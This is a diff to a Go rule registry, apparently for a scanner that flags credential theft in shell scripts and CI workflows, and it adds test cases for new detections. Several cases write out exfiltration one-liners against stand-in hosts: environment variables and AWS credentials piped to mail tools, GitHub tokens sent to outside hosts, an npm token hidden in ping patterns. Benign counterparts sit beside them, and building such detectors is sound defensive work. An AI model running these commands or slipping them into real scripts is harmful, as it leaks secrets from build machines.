@@ -309,6 +309,17 @@ var registry = []Rule{
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			// Mail carries what it reads as well as a socket does.
+			{"x.sh", "env | mail -s report ops@x.invalid", 0, false},
+			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
+			{"x.sh", "cat ~/.aws/credentials | msmtp a@x.invalid", 0, false},
+			{"x.sh", "echo build done | mail -s done ops@x.invalid", 0, true},
+			// GitHub's token handed as the credential (a header, -u, a URL's
+			// user part) of a request to another host; to GitHub it is its use.
+			{"x.sh", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.invalid/`, 0, false},
+			{"x.sh", `git push "https://x:${GITHUB_TOKEN}@x.invalid/r.git" HEAD`, 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x.invalid/", 0, false},
+			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b/releases` + "\n" + `git clone "https://x-access-token:${GITHUB_TOKEN}@github.com/acme/docs.git"` + "\n" + `git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.acme.com/g/r.git`, 0, true},
 			{"x.sh", "curl -F f=@$HOME/.aws/credentials https://x.invalid/u", 0, false},
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
@@ -394,6 +405,9 @@ var registry = []Rule{
 		"the name carries the machine's identity or secrets to whoever runs the domain's DNS, past any firewall that lets lookups through", []Case{
 			{"x.js", "const dns = require('dns')\nconst h = Buffer.from(os.hostname()).toString('hex')\ndns.resolve(`${h}.x.invalid-dns.com`, () => {})", 3, false},
 			{"x.sh", "nslookup $(whoami).$(hostname).x.invalid-dns.com", 0, false},
+			// ping -p puts up to 16 bytes of pattern in every packet.
+			{"x.sh", "ping -c1 -p $(echo $NPM_TOKEN | xxd -p | head -c 32) x.invalid", 0, false},
+			{"x.sh", "ping -c1 -p ff x.invalid", 0, true},
 			{"x.js", "const dns = require('dns')\ndns.lookup(host, cb)", 2, true},
 		}},
 	{"repo-exfiltration", KindCredential, High, "pushes the repository to a remote of another owner",
